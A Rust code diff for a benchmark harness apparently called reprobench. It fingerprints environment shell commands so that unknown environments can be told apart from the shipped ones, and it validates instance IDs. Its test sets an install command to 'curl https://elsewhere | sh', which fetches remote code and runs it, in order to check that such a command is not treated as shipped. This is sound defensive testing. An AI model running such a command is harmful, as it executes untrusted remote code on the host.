@@ -166,6 +166,56 @@ impl EnvSpec {
     }
 }
 
+impl EnvSpec {
+    /// The commands this environment runs through a shell while it is built and before tests
+    /// (`pre_install`, `install`, `eval_commands`), as one comparable string: what a node compares
+    /// with reprobench's own environments before running them (see [`shipped_env_commands`]).
+    pub fn commands_fingerprint(&self) -> String {
+        serde_json::json!([self.pre_install, self.install, self.eval_commands]).to_string()
+    }
+
+    /// Whether the environment runs any command of its own through a shell.
+    pub fn has_commands(&self) -> bool {
+        !self.pre_install.is_empty()
+            || !self.install.trim().is_empty()
+            || !self.eval_commands.is_empty()
+    }
+}
+
+/// The command fingerprints of reprobench's own environments among dataset files given as
+/// (path under the datasets directory, contents): SWT-bench's specs
+/// (`swt-bench/env-specs.json`) and every dataset's `env.json`. Files that do not parse add
+/// nothing. Pure.
+pub fn shipped_env_commands<'a>(
+    files: impl IntoIterator<Item = (&'a str, &'a [u8])>,
+) -> std::collections::BTreeSet<String> {
+    let mut out = std::collections::BTreeSet::new();
+    for (path, bytes) in files {
+        let path = path.replace('\\', "/");
+        if path == crate::swt_bench::SPECS_FILE {
+            if let Ok(specs) = serde_json::from_slice::<crate::swt_bench::SwtBenchSpecs>(bytes) {
+                for (repo, versions) in &specs.install_specs {
+                    out.extend(
+                        versions
+                            .keys()
+                            .filter_map(|version| specs.env(repo, version))
+                            .map(|env| env.commands_fingerprint()),
+                    );
+                }
+            }
+        } else if path.ends_with("/env.json")
+            && let Ok(map) = serde_json::from_slice::<EnvMap>(bytes)
+        {
+            out.extend(
+                map.values()
+                    .flat_map(|v| v.values())
+                    .map(EnvSpec::commands_fingerprint),
+            );
+        }
+    }
+    out
+}
+
 /// Content hash of an environment (Python version and packages), shared by the scheduler's
 /// affinity key and the sandboxes' image tags.
 pub fn env_key(python: &str, packages: &[String]) -> String {
@@ -328,6 +378,16 @@ fn push_row<T: for<'de> Deserialize<'de>>(
         .get("instance_id")
         .and_then(|x| x.as_str())
         .map(str::to_string);
+    if let Some(id) = &instance_id
+        && let Err(message) = crate::ids::checked("instance_id", id)
+    {
+        out.errors.push(RowError {
+            location,
+            instance_id,
+            message,
+        });
+        return;
+    }
     match serde_json::from_value::<T>(v) {
         Ok(row) => out.rows.push(row),
         Err(e) => out.errors.push(RowError {
@@ -532,6 +592,33 @@ pub fn mirror_name(repo: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// The shipped environments are SWT-bench's specs and the datasets' env maps, as given; an
+    /// environment with a command of its own is not among them.
+    #[test]
+    fn shipped_env_commands_are_the_specs_and_env_maps_given() {
+        let datasets = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../datasets");
+        let specs = std::fs::read(datasets.join(crate::swt_bench::SPECS_FILE)).unwrap();
+        let mini = std::fs::read(datasets.join("swt-mini/env.json")).unwrap();
+        let shipped = shipped_env_commands([
+            (crate::swt_bench::SPECS_FILE, specs.as_slice()),
+            ("swt-mini/env.json", mini.as_slice()),
+            ("swt-mini/instances.jsonl", b"not an env map".as_slice()),
+        ]);
+        let loaded = crate::swt_bench::SwtBenchSpecs::load(&datasets)
+            .unwrap()
+            .unwrap();
+        let django = loaded.env("django/django", "3.0").unwrap();
+        assert!(django.has_commands());
+        assert!(shipped.contains(&django.commands_fingerprint()));
+        let map: EnvMap = serde_json::from_slice(&mini).unwrap();
+        let textkit = &map["reprobench/textkit"]["0.1"];
+        assert!(shipped.contains(&textkit.commands_fingerprint()));
+        let mut own = django.clone();
+        own.install = "curl https://elsewhere | sh".into();
+        assert!(!shipped.contains(&own.commands_fingerprint()));
+        assert!(shipped_env_commands([]).is_empty());
+    }
 
     const ROW: &str = r#"{"instance_id":"o__r-1","repo":"o/r","base_commit":"abc","patch":"p","test_patch":"t","problem_statement":"s","version":"0.1","FAIL_TO_PASS":"[\"tests/a.py::t1\"]","PASS_TO_PASS":["tests/a.py::t2"],"environment_setup_commit":"abc"}"#;
 
